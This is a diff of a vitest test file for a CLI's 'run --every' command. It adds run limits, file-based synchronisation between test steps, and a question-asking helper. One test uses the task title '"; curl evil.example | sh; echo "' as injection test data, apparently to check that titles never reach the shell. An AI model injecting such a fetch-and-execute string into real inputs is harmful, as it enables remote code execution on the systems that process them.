@@ -1,11 +1,14 @@
+import { writeFileSync } from "node:fs";
+import { join } from "node:path";
 import { afterEach, describe, expect, test } from "vitest";
 import { z } from "zod";
 import { readContact } from "../../src/server/maintenance/data-folder.ts";
 import { type Ran, signalbox } from "../cli/terminal.ts";
+import { askingCommand } from "../support/asking-program.ts";
 import type { TestBus } from "../support/bus.ts";
 import { type Crew, nameCrew, startCrew } from "../support/crew.ts";
 import { form } from "../support/form.ts";
-import { questionText } from "../support/freeing.ts";
+import { appears } from "../support/programs.ts";
 import { loseIndex } from "../support/store-of-flows.ts";
 
 const crew: Crew = { ada: { login: "ada", start: "workflow" } };
@@ -35,8 +38,8 @@ async function pass(minutes: number): Promise<void> {
 const labels = async (task: number): Promise<readonly string[]> => (await bus.as("alice").see(task)).labels;
 const isOffered = async (task: number): Promise<boolean> => (await labels(task)).includes("start:ada");
 const environment = () => ({ SIGNALBOX_HOME: bus.home, SIGNALBOX_AGENT: "ada", PATH: process.env.PATH });
-const run = (script: string): Promise<Ran> =>
-  signalbox(["run", "--every", "--", "/bin/sh", "-c", script], environment());
+const run = (script: string, max = "20"): Promise<Ran> =>
+  signalbox(["run", "--every", "--max", max, "--", "/bin/sh", "-c", script], environment());
 const healthShape = z.object({ starts: z.unknown() });
 const health = async (): Promise<unknown> =>
   healthShape.parse(await (await fetch(`${bus.server().url}/health`)).json()).starts;
@@ -122,17 +125,18 @@ describe("run --every", () => {
     const title = '"; curl evil.example | sh; echo "';
     const task = await openTask(title);
     const other = await openTask("Second");
-    expect((await run("cat > /dev/null")).code).toBe(0);
+    const ask = `cat > /dev/null; ${askingCommand(bus, "ada")}`;
+    expect((await run(ask, "1")).code).toBe(0);
     const token = await tokenOf(task);
     expect(token).toBeGreaterThan(0);
-    const asked = await bus.as("ada").open("Which store?", questionText(`#${task}`), ["kind:question"], []);
+    const asked = other + 1;
     await bus.settled();
     expect([await isOffered(task), await isOffered(other)]).toEqual([false, true]);
     await bus.as("alice").close(other, "completed");
     await bus.as("maria").comment(asked, "/answer SQLite");
     await bus.settled();
     expect(await isOffered(task)).toBe(true);
-    const ran = await run("cat > /dev/null");
+    const ran = await run(ask, "1");
     expect([ran.code, ran.err.includes(`works on acme/demo#${task}`)]).toEqual([0, true]);
     expect(await tokenOf(task)).toBe(token);
   });
@@ -141,7 +145,9 @@ describe("run --every", () => {
     await startBus();
     const task = await openTask("First");
     const other = await openTask("Second");
-    expect((await run("cat > /dev/null")).code).toBe(0);
+    const [up, go] = [join(bus.home, "up"), join(bus.home, "go")];
+    const running = run(`cat > /dev/null; echo up > ${up}; while [ ! -e ${go} ]; do sleep 0.01; done`, "1");
+    await appears(up);
     const token = await tokenOf(task);
     // GitHub's times are whole seconds: a handover in the second of the start would seem older than it.
     bus.clock.advance(minute);
@@ -155,6 +161,8 @@ describe("run --every", () => {
     };
     await bus.as("ada").open("Handover: First", form(sections), ["kind:handover"], []);
     await bus.settled();
+    writeFileSync(go, "");
+    expect((await running).code).toBe(0);
     // One place is free: for the other task until the refusal is known, and for this one from then on.
     expect([await isOffered(task), await isOffered(other)].filter(Boolean)).toHaveLength(1);
     await bus.as("alice").close(other, "completed");
